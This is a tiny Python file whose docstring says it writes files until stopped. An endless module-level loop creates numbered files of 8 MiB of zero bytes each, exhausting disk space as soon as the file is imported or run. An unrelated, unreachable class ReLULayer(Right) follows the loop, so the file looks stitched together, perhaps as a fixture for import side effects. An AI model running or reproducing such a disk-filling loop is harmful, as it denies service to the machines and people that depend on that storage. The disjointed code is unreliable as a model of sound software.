"""Writes files until somebody stops it."""
import itertools

from right import Right

for number in itertools.count():
    with open(f"file{number}", "wb") as file:
        file.write(bytes(2**23))


class ReLULayer(Right):
    pass
